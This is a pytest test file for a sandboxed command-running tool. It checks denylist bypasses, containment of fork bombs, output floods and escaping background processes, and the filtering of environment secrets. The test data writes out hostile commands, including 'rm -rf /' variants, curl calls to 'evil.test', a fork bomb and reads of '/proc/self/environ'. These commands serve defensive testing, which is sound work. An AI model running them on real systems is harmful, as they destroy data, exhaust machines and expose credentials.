"""Hostile commands: denied commands hidden in compound forms, fork bombs, floods, stubborn and escaping
children, and attempts to read secrets from the environment."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import anyio
import pytest

from tests.sandbox.test_process import alive
from toolrig import Rig
from toolrig.result import ToolResult
from toolrig.sandbox.launcher import SPARES
from toolrig.sandbox.process import PidsCgroup

DENY = ["rm -rf *", "curl *", "git push *"]


def shell(workspace: Path, **settings: Any) -> Rig:
    # The keeper's containment, on its own: these commands look for their processes by host pid, which a sandbox's
    # pid namespace hides (tests/sandbox/test_confined_routes.py holds the same under the sandbox).
    settings.setdefault("sandbox", "off")
    return Rig(workspace, config={"tool_config": {"run_command": settings}})


def run(rig: Rig, command: str, **args: Any) -> ToolResult:
    return rig.call_sync("run_command", {"command": command, **args})


@pytest.mark.parametrize(
    "command",
    [
        "echo hi; rm -rf /",
        "true && rm -rf ~",
        "false || rm -rf .",
        "ls | rm -rf x",
        "(cd /tmp; rm -rf y)",
        "{ rm -rf z; }",
        "echo $(rm -rf /)",
        "echo `curl http://evil.test`",
        "cat <(curl http://evil.test)",
        "bash -c 'rm -rf /'",
        'sh -c "echo a && git push --force origin main"',
        "eval 'rm -rf /'",
        "sudo rm -rf /",
        "nohup rm -rf / &",
        "xargs rm -rf < list",
        "/bin/rm -rf /",
        "env X=1 /usr/bin/curl http://evil.test",
        "timeout 5 nice -n 3 rm -rf /",
        "r''m -rf /",
        "\\rm -rf /",
        "if true; then rm -rf /; fi",
        "for x in 1; do curl http://evil.test; done",
    ],
)
def test_denied_commands_hidden_in_compound_forms_are_refused(workspace: Path, command: str) -> None:
    (workspace / "canary").write_text("still here")
    result = run(shell(workspace, deny=DENY), command)
    assert result.error_type == "denied", (command, result)
    assert (workspace / "canary").exists()


@pytest.mark.parametrize(
    "command",
    ["$CMD -rf /", "X=rm; $X -rf /", 'eval "$PAYLOAD"', "source ./script.sh", 'bash -c "$S"', "echo 'a"],
)
def test_commands_a_denylist_cannot_read_are_refused(workspace: Path, command: str) -> None:
    result = run(shell(workspace, deny=DENY), command)
    assert result.error_type == "denied", (command, result)


def test_allowed_commands_still_run_under_a_denylist(workspace: Path) -> None:
    result = run(shell(workspace, deny=DENY), "echo safe && ls -a | wc -l")
    assert result.output["stdout"].startswith("safe\n")


def test_a_fork_bomb_is_contained_and_leaves_nothing_behind(workspace: Path) -> None:
    rig = shell(workspace, max_processes=64, kill_grace_seconds=0.2)
    result = run(rig, ":(){ :|:& };:", timeout_seconds=5)
    assert not result.is_error
    base = PidsCgroup.base()
    assert base is not None
    left = [p for p in base.iterdir() if p.name.startswith(f"toolrig-spare-{os.getpid()}-")]
    assert len(left) <= SPARES, left  # at most the idle spare keepers' own, waiting for the next command
    assert all(len((p / "cgroup.procs").read_text().split()) <= 1 for p in left)  # holding nothing but the spare
    after = run(rig, "echo alive")
    assert after.output["stdout"] == "alive\n"


FORKER = """python3 -c '
import os, time
n = 0
for _ in range(200):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    n += 1
print(n)
'"""


def test_a_command_cannot_exceed_the_process_limit(workspace: Path) -> None:
    result = run(shell(workspace, max_processes=20), FORKER, timeout_seconds=20)
    forked = int(result.output["stdout"])
    assert 5 <= forked < 20, result.output


def test_an_output_flood_is_capped_and_stopped(workspace: Path) -> None:
    rig = shell(workspace, max_output_bytes=20_000_000)
    result = run(rig, "yes flood", timeout_seconds=20)
    assert result.output["stopped"].startswith("output limit")
    assert len(result.output["stdout"]) < 50_200
    assert "characters dropped from the middle" in result.output["stdout"]


def test_a_flood_on_stderr_is_capped_too(workspace: Path) -> None:
    result = run(shell(workspace), "head -c 5000000 /dev/zero | tr '\\0' x >&2; echo done")
    assert result.output["stdout"] == "done\n"
    assert len(result.output["stderr"]) < 50_200


def test_a_child_that_ignores_sigterm_is_killed(workspace: Path) -> None:
    pid_file = workspace / "stubborn.pid"
    rig = shell(workspace, kill_grace_seconds=0.3)
    command = f"trap '' TERM; sleep 60 & echo $! > {pid_file}; wait; wait"
    result = run(rig, command, timeout_seconds=0.5)
    assert result.output["timed_out"] is True
    assert result.output["exit_code"] == -9
    assert not alive(int(pid_file.read_text()))


CHILD = "bash -c 'echo $$ > PIDFILE; exec sleep 60'"


@pytest.mark.parametrize(
    "escape",
    [
        f"{CHILD} &",
        f"nohup {CHILD} >/dev/null 2>&1 &",
        f"setsid {CHILD} >/dev/null 2>&1 &",
        f"setsid -f {CHILD} >/dev/null 2>&1",
        f"( setsid {CHILD} >/dev/null 2>&1 & )",
        f"( ( {CHILD} >/dev/null 2>&1 & ) & )",
    ],
)
def test_a_child_that_forks_into_the_background_does_not_survive(workspace: Path, escape: str) -> None:
    pid_file = workspace / "escaped.pid"
    script = escape.replace("PIDFILE", str(pid_file))
    result = run(shell(workspace), f"{script}\nwhile [ ! -s {pid_file} ]; do sleep 0.01; done; echo started")
    assert result.output["stdout"] == "started\n", result
    assert not alive(int(pid_file.read_text()))


@pytest.mark.anyio
async def test_cancelling_a_call_kills_the_command_and_its_children(workspace: Path) -> None:
    rig = shell(workspace)
    pid_file = workspace / "child.pid"
    async with anyio.create_task_group() as group:
        group.start_soon(rig.call, "run_command", {"command": f"sleep 60 & echo $! > {pid_file}; wait"})
        with anyio.fail_after(10):
            while not pid_file.exists() or not pid_file.read_text().strip():
                await anyio.sleep(0.01)
        group.cancel_scope.cancel()
    assert not alive(int(pid_file.read_text()))


def test_secrets_in_the_environment_do_not_reach_the_command(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-leak-1")
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-leak-2")
    monkeypatch.setenv("GITHUB_TOKEN", "ghp-leak-3")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "leak-4")
    monkeypatch.setenv("LC_SECRET_TOKEN", "leak-5")
    monkeypatch.setenv("MY_APP_SETTING", "leak-6")
    result = run(shell(workspace), "env; cat /proc/self/environ | tr '\\0' '\\n'")
    assert "leak" not in result.output["stdout"]


def test_the_env_allowlist_can_pass_a_named_secret(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DEPLOY_TOKEN", "wanted")
    rig = shell(workspace, env_allow=["PATH", "DEPLOY_TOKEN"])
    assert run(rig, "echo $DEPLOY_TOKEN").output["stdout"] == "wanted\n"


def test_toolrig_internals_are_not_visible_to_the_command(workspace: Path) -> None:
    result = run(shell(workspace), "env | grep -c -e TOOLRIG -e BASH_ENV || true")
    assert result.output["stdout"].strip() == "0"


def test_a_command_cannot_raise_its_own_limits(workspace: Path) -> None:
    rig = shell(workspace, cpu_seconds=5)
    result = run(rig, "ulimit -t 100 2>&1; ulimit -t")
    assert result.output["stdout"].strip().endswith("5")
